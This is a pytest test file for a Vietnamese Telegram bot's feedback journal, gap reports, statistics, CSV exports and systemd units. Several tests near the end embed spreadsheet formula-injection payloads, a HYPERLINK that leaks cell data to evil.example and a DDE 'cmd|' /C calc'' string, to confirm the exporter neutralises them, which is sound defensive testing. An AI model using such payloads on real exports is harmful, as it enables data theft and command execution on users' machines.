"""Running the bot for a unit: the journal (feedback, gaps, statistics), its reports and
exports, health checks, logs for operators, and the systemd units."""

from __future__ import annotations

import csv
import io
import json
import logging
import shutil
import sqlite3
import subprocess
from datetime import UTC, date, datetime, timedelta

import pytest
from conftest import ROOT
from hypothesis import given, settings
from hypothesis import strategies as st

from bot.operations.gaps import gap_report, group, topic_words
from bot.operations.journal import AskedDocument, Exchange, Journal, JournalError, Unanswered, parse_day
from bot.operations.reports import CSV_HEADERS, feedback_report, gaps_report, stats_report, write_feedback

# --- the journal ------------------------------------------------------------------------


def exchange(i: str, question: str, found: bool = True, user: int = 424242, chat: int = -100777, **kw) -> Exchange:
    return Exchange(id=i, chat=chat, user=user, question=question, found=found, answer=f"trả lời {question}", **kw)


def test_feedback_is_stored_with_its_exchange_and_exported(tmp_path):
    journal = Journal(tmp_path / "f.sqlite3")
    journal.record(exchange("a" * 12, "Thu ngân sách đạt bao nhiêu?", sources=("Bài A",), generator="openai:qwen"))
    journal.record(exchange("b" * 12, "Ban thanh tra có mấy người?"))
    assert journal.rate(-100777, "a" * 12, 424242, -1)
    assert journal.comment(-100777, "a" * 12, 424242, "Thiếu số liệu năm 2019")
    assert journal.rate(-100777, "b" * 12, 5, 1)
    assert journal.rate(-100777, "b" * 12, 5, 1)  # pressed twice: still one vote

    entries = journal.feedback()
    assert sorted(e.rating for e in entries) == [-1, 1]
    (down,) = journal.feedback(negative=True)
    assert down.question == "Thu ngân sách đạt bao nhiêu?" and down.comment == "Thiếu số liệu năm 2019"
    assert down.sources == ("Bài A",) and down.generator == "openai:qwen" and down.found is True
    assert down.user == journal.pseudonym(424242) != "424242"

    out = io.StringIO()
    write_feedback(entries, out, "csv")
    assert out.getvalue().startswith('\ufeff"Thời điểm",')  # Excel reads UTF-8 only after a BOM
    rows = list(csv.DictReader(io.StringIO(out.getvalue().removeprefix("\ufeff"))))
    assert len(rows) == 2 and {r["Góp ý"] for r in rows} == {"Thiếu số liệu năm 2019", ""}
    assert {r["Có thông tin"] for r in rows} == {"có"} and {r["Đánh giá (1 = 👍, -1 = 👎)"] for r in rows} == {
        "1",
        "-1",
    }
    out = io.StringIO()
    write_feedback(entries, out, "json")
    assert [json.loads(line)["rating"] for line in out.getvalue().splitlines()] == [e.rating for e in entries]

    assert journal.feedback(since=datetime.now(UTC) + timedelta(days=1)) == []
    assert len(journal.feedback(since=parse_day(date.today().isoformat()))) == 2
    with pytest.raises(JournalError) as bad_day:
        parse_day("21/11/2026")
    assert "NĂM-THÁNG-NGÀY" in bad_day.value.for_user()
    # Telegram ids never reach the file
    raw = b"".join(p.read_bytes() for p in tmp_path.iterdir())
    assert b"424242" not in raw and b"100777" not in raw


def test_a_damaged_journal_is_kept_aside_and_a_full_disk_loses_no_answer(tmp_path, monkeypatch, caplog):
    path = tmp_path / "f.sqlite3"
    path.write_bytes(b"this is not a database" * 100)
    with pytest.raises(JournalError):
        Journal(path, repair=False)  # what health checks use: report, never repair
    journal = Journal(path)
    assert journal.record(exchange("c" * 12, "câu hỏi"))
    assert [p.name for p in tmp_path.glob("f.sqlite3.corrupt-*")]

    real_connect = sqlite3.connect

    def full_disk(*args, **kwargs):
        db = real_connect(*args, **kwargs)
        db.execute(f"PRAGMA max_page_count = {db.execute('PRAGMA page_count').fetchone()[0]}")
        return db

    monkeypatch.setattr("bot.operations.journal.sqlite3.connect", full_disk)
    with caplog.at_level(logging.WARNING, logger="bot.operations.journal"):
        assert not journal.record(exchange("d" * 12, "x " * 3000))
    assert "could not record" in caplog.text and "full" in caplog.text


def test_statistics_count_answers_feedback_documents_and_weeks(tmp_path):
    journal = Journal(tmp_path / "f.sqlite3")
    now = datetime.now(UTC)
    kl120 = AskedDocument("120-KL/TW", "Kết luận", held=False, cited=True)
    law = AskedDocument("10/2022/QH15", "Luật", held=True)
    journal.record(exchange("1" * 12, "KL120 yêu cầu gì?", asked=(kl120,)))
    journal.record(exchange("2" * 12, "Kết luận 120 nói gì?", asked=(kl120,), user=7))
    journal.record(exchange("3" * 12, "Luật 10/2022/QH15", asked=(law,), at=now - timedelta(weeks=3)))
    journal.record(exchange("4" * 12, "Giá vàng?", found=False))
    journal.record(exchange("5" * 12, "/vb 999", kind="lookup", found=False))
    journal.rate(-100777, "1" * 12, 1, 1)
    journal.rate(-100777, "4" * 12, 1, -1)

    stats = journal.stats(weeks=8)
    assert (stats.answered, stats.unanswered, stats.lookups, stats.users) == (3, 1, 1, 2)
    assert (stats.up, stats.down, stats.comments) == (1, 1, 0)
    assert stats.top_documents[0] == ("120-KL/TW", 2)
    assert len(stats.weeks) == 8 and stats.weeks[-1].answered == 2 and stats.weeks[-1].unanswered == 1
    assert sum(w.answered for w in stats.weeks) == 3 and stats.weeks[-1].up == 1
    text = stats_report(stats, 31, 19).text()
    assert "Đã trả lời: 3" in text and "👍 1, 👎 1" in text and "120-KL/TW (2)" in text and "31 đoạn" in text


def test_gaps_group_missing_documents_and_topics(tmp_path):
    journal = Journal(tmp_path / "f.sqlite3")
    kl120 = AskedDocument("120-KL/TW", "Kết luận", held=False, cited=True)
    unknown = AskedDocument("999-KL/TW", "Kết luận", held=False)
    law = AskedDocument("10/2022/QH15", "Luật", held=True)
    asked = [("Kết luận 120 yêu cầu gì?", (kl120,), 1), ("kl120 la gi", (kl120,), 2), ("KL 120?", (kl120,), 2),
             ("Kết luận 999-KL/TW", (unknown,), 3), ("Luật 10/2022/QH15", (law,), 3)]  # fmt: skip
    for i, (question, documents, user) in enumerate(asked):
        journal.record(exchange(f"{i:012x}", question, asked=documents, user=user))
    unanswered = ["Giá vàng hôm nay bao nhiêu?", "gia vang hom nay?", "Giá vàng hôm nay bao nhiêu?",
                  "Quy chế dân chủ trong trường học quy định gì?", "quy che dan chu o truong hoc", "Thời tiết Hà Nội"]  # fmt: skip
    for i, question in enumerate(unanswered):
        journal.record(exchange(f"{100 + i:012x}", question, found=False, user=i % 2))

    assert topic_words("Giá vàng hôm nay bao nhiêu?") == topic_words("gia vang hom nay") == {"gia", "vang", "hom"}
    report = gap_report(journal)
    assert [(d.ref, d.asked, d.users, d.cited) for d in report.documents] == [
        ("120-KL/TW", 3, 2, True),
        ("999-KL/TW", 1, 1, False),
    ]  # the Law, which the library holds, is not missing
    assert [(t.question, t.asked) for t in report.topics] == [
        ("Giá vàng hôm nay bao nhiêu?", 3),
        ("Quy chế dân chủ trong trường học quy định gì?", 2),
        ("Thời tiết Hà Nội", 1),
    ]
    assert report.topics[0].variants() == ["gia vang hom nay?"] and len(report.topics[0].users) == 2
    text = gaps_report(report).text()
    assert "Kết luận 120-KL/TW: hỏi 3 lần, 2 người; kho chỉ có trích dẫn" in text and "6 câu, 3 chủ đề" in text
    assert gaps_report(gap_report(Journal(tmp_path / "empty.sqlite3"))).text().endswith("kho không có.")


@settings(max_examples=60, deadline=None)
@given(st.lists(st.text(max_size=40), max_size=25))
def test_grouping_keeps_every_question(questions):
    at = datetime.now(UTC)
    topics = group([Unanswered(q, str(i % 3), at) for i, q in enumerate(questions)])
    assert sum(t.asked for t in topics) == len(questions)
    assert all(t.question in t.phrasings for t in topics)


def test_negative_feedback_report_shows_question_answer_and_comment(tmp_path):
    journal = Journal(tmp_path / "f.sqlite3")
    journal.record(exchange("e" * 12, "Thu ngân sách?", sources=("Bài A", "Bài B")))
    journal.comment(-100777, "e" * 12, 1, "Sai năm")
    journal.rate(-100777, "f" * 12, 1, -1)  # an answer the journal never saw (a journal started afresh)
    text = feedback_report(journal.feedback(negative=True)).text()
    assert "Hỏi: Thu ngân sách?" in text and "Đã trả lời: trả lời Thu ngân sách?" in text
    assert "Nguồn: Bài A; Bài B" in text and "Góp ý: Sai năm" in text and "(không còn lưu)" in text


# --- the systemd units ----------------------------------------------------------------------


def test_systemd_units_verify(tmp_path):
    analyze = shutil.which("systemd-analyze")
    if analyze is None:
        pytest.skip("systemd-analyze is not installed on this machine")
    units = sorted((ROOT / "deploy").glob("*.service")) + sorted((ROOT / "deploy").glob("*.timer"))
    assert {u.name for u in units} >= {"tro-ly-qcdc.service", "tro-ly-qcdc-ingest.service", "tro-ly-qcdc-ingest.timer"}
    for unit in units:  # verify checks that ExecStart exists: point the units at this checkout
        (tmp_path / unit.name).write_text(unit.read_text().replace("/opt/tro-ly-qcdc", str(ROOT)))
    proc = subprocess.run(
        [analyze, "verify", *(str(tmp_path / u.name) for u in units)], capture_output=True, text=True, timeout=120
    )
    assert proc.returncode == 0 and not proc.stderr.strip(), proc.stderr

    bot = (ROOT / "deploy" / "tro-ly-qcdc.service").read_text()
    for line in ("Restart=on-failure", "User=qcdc", "EnvironmentFile=/etc/tro-ly-qcdc/env", "-m bot telegram"):
        assert line in bot
    timer = (ROOT / "deploy" / "tro-ly-qcdc-ingest.timer").read_text()
    assert "OnCalendar=" in timer and "Persistent=true" in timer
    assert "-m ingest" in (ROOT / "deploy" / "tro-ly-qcdc-ingest.service").read_text()
    # the environment file names only variables the project documents
    documented = {
        line.split("=")[0].lstrip("# ") for line in (ROOT / ".env.example").read_text().splitlines() if "=" in line
    }
    used = {
        line.split("=")[0]
        for line in (ROOT / "deploy" / "env.example").read_text().splitlines()
        if "=" in line and not line.startswith("#")
    }
    assert used <= documented, used - documented


def test_guide_in_vietnamese_is_linked_and_followed_by_help():
    from bot.channels.telegram.formatting import HELP

    guide = (ROOT / "HUONG_DAN.md").read_text(encoding="utf-8")
    assert "HUONG_DAN.md" in (ROOT / "README.md").read_text(encoding="utf-8")
    for command in ("/hoi", "/vb", "/nguon", "/tailieu", "/baigiang", "/thongke", "/phanhoi", "/thieu", "/capnhat"):
        assert command in guide
    for command in ("/hoi", "/vb", "/nguon", "/tailieu", "/baigiang"):
        assert command in HELP
    for part in ("Hỏi gì", "Nút dưới câu trả lời", "Bot không làm gì"):
        assert part in HELP and part in guide
    for task in ("python -m bot health", "python -m bot feedback", "python -m bot gaps", "systemctl", "Sao lưu"):
        assert task in guide


# --- issue 32: the export in a spreadsheet, /thieu's merged documents and 👎 questions --------------


def _exported(tmp_path, texts: list[str]) -> list[dict[str, str]]:
    journal = Journal(tmp_path / "x.sqlite3")
    for i, text in enumerate(texts):
        journal.record(exchange(f"{i:012}", text, sources=(text,)))
        journal.comment(-100777, f"{i:012}", 424242, text)
    out = io.StringIO()
    write_feedback(journal.feedback(), out, "csv")
    assert out.getvalue().startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(out.getvalue().removeprefix("\ufeff"), newline="")))


@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r", "＝", "  ="])
def test_feedback_csv_formula_cells_are_neutralised(tmp_path, trigger):
    payloads = ['HYPERLINK("http://evil.example/?q="&A1,"Bấm")', "cmd|' /C calc'!A0", "1+2", "SUM(1;2)"]
    rows = _exported(tmp_path, [trigger + p for p in payloads])
    for row in rows:
        for column in ("Góp ý", "Câu hỏi", "Nguồn"):
            assert row[column].startswith("'" + trigger), (column, row[column])
            assert row[column][1:] in {trigger + p for p in payloads}  # the text itself is kept whole


@pytest.mark.parametrize("separator", [";", ",", "\t", "|"])
def test_feedback_csv_formula_after_a_list_separator_stays_inside_its_quoted_cell(tmp_path, separator):
    journal = Journal(tmp_path / "x.sqlite3")
    journal.record(exchange("0" * 12, f'xem{separator}=HYPERLINK("http://evil.example","x")'))
    journal.comment(-100777, "0" * 12, 424242, f"ok{separator}+cmd|' /C calc'!A0")
    out = io.StringIO()
    write_feedback(journal.feedback(), out, "csv")
    text = out.getvalue().removeprefix("\ufeff")
    # Every cell quoted, so a spreadsheet splitting on another separator keeps the text in one cell.
    assert f'"xem{separator}=HYPERLINK' in text and f'"ok{separator}+cmd' in text
    header, row = text.split("\r\n")[:2]
    assert header.startswith('"') and row.startswith('"') and row.endswith('"')
    assert len(next(csv.reader([row]))) == len(CSV_HEADERS)


@settings(max_examples=40, deadline=None)
@given(st.text(alphabet=st.sampled_from("=+-@\t\r ＝aă,\"'\n1"), min_size=1, max_size=12))
def test_feedback_csv_never_starts_a_cell_with_a_formula(text):
    from bot.operations.reports import FORMULA_TRIGGERS, spreadsheet_safe

    cell = spreadsheet_safe(text)
    assert not cell.lstrip(" ").startswith(FORMULA_TRIGGERS)
    assert cell in (text, "'" + text)


def test_feedback_csv_is_for_excel_local_times_and_vietnamese_headers(tmp_path):
    (row,) = _exported(tmp_path, ["Thu ngân sách?"])
    assert list(row)[:4] == ["Thời điểm", "Đánh giá (1 = 👍, -1 = 👎)", "Góp ý", "Câu hỏi"]
    entry = Journal(tmp_path / "x.sqlite3").feedback()[0]
    assert row["Thời điểm"] == entry.at.astimezone().strftime("%Y-%m-%d %H:%M:%S")
    assert row["Đánh giá (1 = 👍, -1 = 👎)"] == "-1" and row["Có thông tin"] == "có"


@pytest.mark.parametrize(
    ("spellings", "expected"),
    [
        ([("30", "Chỉ thị"), ("30-CT/TW", "Chỉ thị")], [("30-CT/TW", 2)]),
        ([("30-CT/TW", None), ("30", "Chỉ thị"), ("30/CT-TW", "Chỉ thị"), ("030", "Chỉ thị")], [("30-CT/TW", 4)]),
        ([("120", "Kết luận"), ("120-KL/TW", "Kết luận"), ("120-kl/tw", "Kết luận")], [("120-KL/TW", 3)]),
        ([("30", "Chỉ thị"), ("30", "Nghị quyết"), ("30-CT/TW", "Chỉ thị")], [("30-CT/TW", 2), ("30", 1)]),
        (
            [("30/2020/QĐ-TTg", "Quyết định"), ("30/2021/QĐ-TTg", "Quyết định")],
            [("30/2020/QĐ-TTG", 1), ("30/2021/QĐ-TTG", 1)],
        ),
        ([("05-CT/TW", None), ("5", "Chỉ thị")], [("05-CT/TW", 2)]),
    ],
)
def test_gaps_merge_chi_thi_30_and_30_ct_tw_by_number(tmp_path, spellings, expected):
    journal = Journal(tmp_path / "f.sqlite3")
    for i, (ref, kind) in enumerate(spellings):
        journal.record(exchange(f"{i:012}", f"{kind} {ref}", asked=(AskedDocument(ref, kind, held=False),), user=i))
    documents = gap_report(journal).documents
    assert sorted((d.ref, d.asked) for d in documents) == sorted(expected)
    assert sum(d.users for d in documents) == len(spellings)  # one person per question here


def test_gaps_list_questions_marked_wrong_grouped_by_topic(tmp_path):
    journal = Journal(tmp_path / "f.sqlite3")
    asked = ["Ban thanh tra nhân dân có mấy người?", "ban thanh tra nhan dan co may nguoi", "Ai bầu trưởng thôn?",
             "Ban thanh tra nhân dân có mấy người?"]  # fmt: skip
    for i, question in enumerate(asked):
        journal.record(exchange(f"{i:012}", question, user=i))
        journal.rate(-100777, f"{i:012}", i, -1)
    journal.comment(-100777, f"{0:012}", 0, "Sai: luật nói từ 3 đến 5 người")
    journal.record(exchange("9" * 12, "Câu được khen", user=9))
    journal.rate(-100777, "9" * 12, 9, 1)
    journal.record(exchange("8" * 12, "Đổi ý", user=8))
    journal.rate(-100777, "8" * 12, 8, -1)
    journal.rate(-100777, "8" * 12, 8, 1)  # 👎 then 👍: not wrong any more
    journal.record(exchange("7" * 12, "Giá vàng?", found=False, user=7))
    journal.rate(-100777, "7" * 12, 7, -1)  # already listed as unanswered

    report = gap_report(journal)
    assert [(t.question, t.asked, len(t.users)) for t in report.wrong] == [
        ("Ban thanh tra nhân dân có mấy người?", 3, 3),
        ("Ai bầu trưởng thôn?", 1, 1),
    ]
    assert report.wrong_questions == 4 and report.wrong[0].comments == ["Sai: luật nói từ 3 đến 5 người"]
    assert [t.question for t in report.topics] == ["Giá vàng?"]
    text = gaps_report(report).text()
    assert "Câu hỏi bị chấm 👎, trả lời chưa đúng (4 lượt, 2 chủ đề)" in text
    assert "“Ban thanh tra nhân dân có mấy người?”: 3 lần 👎, 3 người" in text and "góp ý: “Sai: luật" in text


@settings(max_examples=40, deadline=None)
@given(st.lists(st.sampled_from([("30", "Chỉ thị"), ("30-CT/TW", None), ("30/ct-tw", "Chỉ thị"), ("30", "Nghị quyết"),
                                 ("30-NQ/TW", "Nghị quyết"), ("30/2020/QĐ-TTg", None), ("999", None), ("x", None)]),
                max_size=12))  # fmt: skip
def test_gaps_merging_keeps_every_question(spellings):
    from bot.operations.gaps import missing_documents
    from bot.operations.journal import MissingAsk

    at = datetime.now(UTC)
    asks = [MissingAsk(ref, kind, str(i % 4), at, False) for i, (ref, kind) in enumerate(spellings)]
    documents = missing_documents(asks)
    assert sum(d.asked for d in documents) == len(asks)
    assert len({(d.ref, d.type) for d in documents}) == len(documents)  # each document once
    assert sum(d.ref.startswith("30-CT") or (d.ref == "30" and d.type == "Chỉ thị") for d in documents) <= 1
